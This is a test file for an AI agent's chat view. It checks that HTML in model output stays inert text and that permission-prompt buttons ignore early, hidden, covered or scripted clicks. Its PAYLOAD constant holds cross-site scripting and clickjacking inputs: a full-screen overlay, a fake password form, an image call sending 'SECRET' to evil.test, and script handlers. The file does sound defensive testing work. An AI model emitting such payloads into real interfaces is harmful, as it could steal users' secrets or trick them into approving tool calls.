/**
 * Every piece of model output the view shows, carrying HTML payloads, and the prompts' buttons
 * under clicks that are not deliberate or come too early.
 */
import { beforeEach, describe, expect, it } from "vitest";
import { reduceAll } from "../src/reducer";
import { ARM_DELAY_MS, isDeliberate, shownInViewport } from "../src/view/guard";
import { envelope, type Envelope } from "./helpers";
import { byTestId, clock, container, guard, onAction, setup, view } from "./view-setup";

const PAYLOAD = [
  "<style>body{background:red}</style>",
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<form action="https://evil.test/"><input type="password" name="pw"><button>Approve</button></form>',
  '<img src="https://evil.test/x.png?d=SECRET" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">link</a>',
].join(" ");

/** Elements no model output may create in the view. */
const FOREIGN = "style, form, input, button:not(.neta-button), iframe, svg, script, img, div[style], a[href^=javascript]";

beforeEach(() => setup({ prompt: PAYLOAD, resolveUrl: () => null }));

function show(events: Envelope[]): void {
  view.update(reduceAll(events));
  clock.runFrames();
}

const code = "import os\nprint('<b>x</b>')";
const args = JSON.stringify({ code: `${code}\n# ${PAYLOAD}` });

/** A run that puts the payload everywhere model output shows, then asks for permission. */
function hostileRun(): Envelope[] {
  let seq = 0;
  const e = (type: string, data: Record<string, unknown>) => envelope(type, seq++, data);
  return [
    e("SESSION_CREATED", { type: "session", sessionId: "s" }),
    e("REASONING_START", { type: "reasoning", text: PAYLOAD }),
    e("REASONING_END", { type: "reasoning", text: "" }),
    e("TODO_UPDATE", { type: "todo", items: [{ id: "t", content: PAYLOAD, status: "pending" }] }),
    e("TOOL_START", { type: "tool", toolCallId: "c1", toolName: "read_file", arguments: JSON.stringify({ path: PAYLOAD }) }),
    e("TOOL_RUNNING", { type: "tool", toolCallId: "c1", title: PAYLOAD }),
    e("TOOL_COMPLETED", { type: "tool", toolCallId: "c1", output: PAYLOAD, durationMs: 1 }),
    e("TEXT_START", { type: "text", text: PAYLOAD }),
    e("TEXT_END", { type: "text", text: "" }),
    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", toolName: "python" }),
    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", arguments: args.slice(0, 20) }),
    e("TOOL_CALL_GENERATING", { type: "tool", toolCallId: "c2", arguments: args.slice(20) }),
    e("PERMISSION_ASK", {
      type: "permission_ask",
      askId: "ask_1",
      toolName: "python",
      toolCallId: "c2",
      arguments: args,
      ruleDescription: PAYLOAD,
      rulePattern: PAYLOAD,
    }),
    e("MESSAGE_SUSPENDED", { type: "message", suspendReason: { type: "PERMISSION_ASK", askId: "ask_1" } }),
  ];
}

function clarifyRun(): Envelope[] {
  return [
    envelope("SESSION_CREATED", 0, { type: "session", sessionId: "s" }),
    envelope("CLARIFY_REQUEST", 1, { type: "clarify", clarifyId: "cl", question: PAYLOAD, options: [PAYLOAD, "b"] }),
    envelope("MESSAGE_SUSPENDED", 2, { type: "message", suspendReason: { type: "CLARIFY_REQUEST", askId: "cl" } }),
  ];
}

describe("model output in every part of the view", () => {
  it("creates no element of its own in the answer, reasoning, todos, tools, toasts or prompts", () => {
    show(hostileRun());
    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
    // Shown as text where text is expected (all but the answer, which is markdown).
    for (const id of ["neta-reasoning", "neta-todo", "neta-tool-output", "neta-permission"]) {
      expect(byTestId(id).textContent, id).toContain("<style>body{background:red}</style>");
    }
    expect(byTestId("neta-answer").textContent).toContain("cover");
    expect(container.textContent).toContain('<form action="https://evil.test/">');
  });

  it("in a status toast, too", () => {
    show([envelope("AGENT_STATUS", 0, { type: "agent_status", code: "X", level: "WARN", message: PAYLOAD })]);
    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
    expect(byTestId("neta-toast").textContent).toBe(PAYLOAD);
  });

  it("in a clarify request, too", () => {
    show(clarifyRun());
    expect(container.querySelectorAll(FOREIGN)).toHaveLength(0);
    expect(byTestId("neta-clarify").textContent).toContain("<iframe srcdoc=");
  });

  it("shows a call waiting for approval with its code highlighted, in its card and in the prompt", () => {
    show(hostileRun());
    const card = container.querySelector<HTMLElement>('[data-testid=neta-tool-card][data-tool-call-id="c2"]');
    const cardCode = card?.querySelector(".neta-tool-args code");
    expect(cardCode?.className).toBe("hljs language-python");
    expect(cardCode?.textContent).toBe(`${code}\n# ${PAYLOAD}`);
    expect(cardCode?.querySelector(".hljs-keyword")?.textContent).toBe("import");
    const promptCode = byTestId("neta-permission").querySelector(".neta-permission-args code");
    expect(promptCode?.className).toBe("hljs language-python");
    expect(promptCode?.querySelector(".hljs-keyword")?.textContent).toBe("import");
    expect(promptCode?.textContent).toBe(`${code}\n# ${PAYLOAD}`);
  });
});

describe("prompt buttons", () => {
  const approve = () => byTestId("neta-approve") as HTMLButtonElement;

  it("are disarmed until the prompt has been in view for a moment", () => {
    show(hostileRun());
    expect(approve().disabled).toBe(true);
    expect(approve().dataset["armed"]).toBe("false");
    approve().click();
    clock.advance(ARM_DELAY_MS - 1);
    approve().click();
    expect(onAction).not.toHaveBeenCalled();
    clock.advance(1);
    expect(approve().disabled).toBe(false);
    approve().click();
    expect(onAction).toHaveBeenCalledWith({ action: "resume", requestId: "r_test", askId: "ask_1", approved: true, always: false });
  });

  it("wait again from the start when the prompt leaves the view", () => {
    guard.setVisible(false);
    show(hostileRun());
    clock.advance(5 * ARM_DELAY_MS);
    expect(approve().disabled).toBe(true);
    guard.setVisible(true);
    clock.advance(ARM_DELAY_MS / 2);
    guard.setVisible(false);
    guard.setVisible(true);
    clock.advance(ARM_DELAY_MS / 2);
    expect(approve().disabled).toBe(true);
    clock.advance(ARM_DELAY_MS / 2);
    expect(approve().disabled).toBe(false);
    guard.setVisible(false);
    expect(approve().disabled).toBe(true);
  });

  it("ignore clicks that are not deliberate", () => {
    show(hostileRun());
    clock.advance(ARM_DELAY_MS);
    guard.deliberate = false;
    for (const id of ["neta-approve", "neta-always", "neta-deny"]) byTestId(id).click();
    expect(onAction).not.toHaveBeenCalled();
  });

  it("stay the nodes they were through a redraw of the same ask, so a click pressed before it counts", () => {
    const events = hostileRun();
    show(events);
    clock.advance(ARM_DELAY_MS);
    const pressed = approve();
    pressed.dispatchEvent(new MouseEvent("mousedown", { bubbles: true, detail: 1 }));
    show(events); // the ask told again, as a new object (a replay after a reconnect)
    expect(approve()).toBe(pressed);
    expect(pressed.isConnected && !pressed.disabled).toBe(true);
    pressed.click();
    expect(onAction).toHaveBeenCalledTimes(1);
  });

  it("still ignore a click on a hidden or covered button after such a redraw", () => {
    const events = hostileRun();
    show(events);
    clock.advance(ARM_DELAY_MS);
    show(events);
    guard.setVisible(false); // scrolled away: disarmed at once
    approve().click();
    guard.setVisible(true);
    clock.advance(ARM_DELAY_MS);
    guard.deliberate = false; // covered: the click landed on something else
    approve().click();
    expect(onAction).not.toHaveBeenCalled();
    guard.deliberate = true;
    approve().click();
    expect(onAction).toHaveBeenCalledTimes(1);
  });

  it("of a clarify request are guarded the same way, Ctrl+Enter included", () => {
    show(clarifyRun());
    const option = container.querySelector<HTMLButtonElement>("[data-testid=neta-clarify-option]");
    const input = byTestId("neta-clarify-input") as HTMLTextAreaElement;
    input.value = "my answer";
    const ctrlEnter = () => input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", ctrlKey: true, bubbles: true }));
    expect(option?.disabled).toBe(true);
    ctrlEnter();
    clock.advance(ARM_DELAY_MS);
    guard.deliberate = false;
    option?.click();
    byTestId("neta-clarify-send").click();
    ctrlEnter();
    expect(onAction).not.toHaveBeenCalled();
    guard.deliberate = true;
    ctrlEnter();
    expect(onAction).toHaveBeenCalledWith({ action: "resume", requestId: "r_test", askId: "cl", answer: "my answer" });
  });
});

describe("the browser's checks", () => {
  it("refuse events a script made, and controls that are not laid out", () => {
    const button = document.createElement("button");
    document.body.append(button);
    expect(isDeliberate(new MouseEvent("click", { detail: 1, clientX: 1, clientY: 1 }), button)).toBe(false);
    expect(isDeliberate(new KeyboardEvent("keydown", { key: "Enter" }), button)).toBe(false);
    // jsdom lays nothing out: a control of no size is not shown.
    expect(shownInViewport(button)).toBe(false);
    expect(shownInViewport(document.createElement("button"))).toBe(false);
  });
});
